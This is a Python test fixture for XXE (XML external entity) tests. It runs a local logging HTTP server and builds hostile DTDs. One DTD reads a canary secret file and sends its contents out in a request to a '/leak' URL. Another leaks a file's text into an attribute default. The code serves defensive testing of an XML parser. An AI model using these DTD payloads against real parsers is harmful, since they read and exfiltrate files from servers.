"""A real HTTP server on 127.0.0.1 for out-of-band XXE tests, and the hostile files it serves.

The server runs in its own process: saxonche holds the GIL while its parser
fetches a URL, so a server thread in the test process would never answer.
Every request is appended to a log file; ``requests()`` reads it.
"""

from __future__ import annotations

import subprocess
import sys
import time
from pathlib import Path

CANARY = "CANARY-7f3a9c-LOCAL-SECRET"

_SERVER = r"""
import http.server, sys
log, dtd = sys.argv[1], sys.argv[2]
class Handler(http.server.BaseHTTPRequestHandler):
    timeout = 5
    def do_GET(self):
        with open(log, "a") as f:
            f.write(self.path + "\n")
        body = open(dtd, "rb").read() if self.path.endswith(".dtd") else b"<r/>"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
print(server.server_address[1], flush=True)
server.serve_forever()
"""


class OutOfBandServer:
    """Serves ``/x.dtd``: the classic out-of-band DTD that reads ``secret`` and sends it back
    in a URL. ``dtd_url`` is what a hostile DOCTYPE names."""

    def __init__(self, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        self.secret = folder / "secret.txt"
        self.secret.write_text(CANARY)
        self.log = folder / "requests.log"
        self.log.write_text("")
        self._dtd = folder / "served.dtd"
        self._process = subprocess.Popen([sys.executable, "-c", _SERVER, str(self.log), str(self._dtd)],
                                         stdout=subprocess.PIPE, text=True)
        assert self._process.stdout is not None
        self.port = int(self._process.stdout.readline())
        self.base = f"http://127.0.0.1:{self.port}"
        self.dtd_url = f"{self.base}/x.dtd"
        self._dtd.write_text(
            f'<!ENTITY % file SYSTEM "{self.secret.as_uri()}">\n'
            f"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '{self.base}/leak?%file;'>\">\n"
            "%wrap;\n%send;\n")

    def requests(self) -> list[str]:
        time.sleep(0.2)  # a request in flight reaches the log
        return self.log.read_text().split()

    def close(self) -> None:
        self._process.kill()
        self._process.wait(timeout=10)


def local_leak_dtd(folder: Path, secret: Path) -> Path:
    """A local DTD that puts the secret's text into an attribute default (no network needed)."""
    dtd = folder / "local-leak.dtd"
    dtd.write_text(f'<!ENTITY % file SYSTEM "{secret.as_uri()}">\n'
                   "<!ENTITY % attr \"<!ATTLIST p rend CDATA '%file;'>\">\n%attr;\n")
    return dtd


def files_containing(root: Path, text: str) -> list[Path]:
    """Every file under ``root`` whose bytes contain ``text`` (outputs searched for the canary)."""
    needle = text.encode()
    return sorted(p for p in root.rglob("*") if p.is_file() and needle in p.read_bytes())
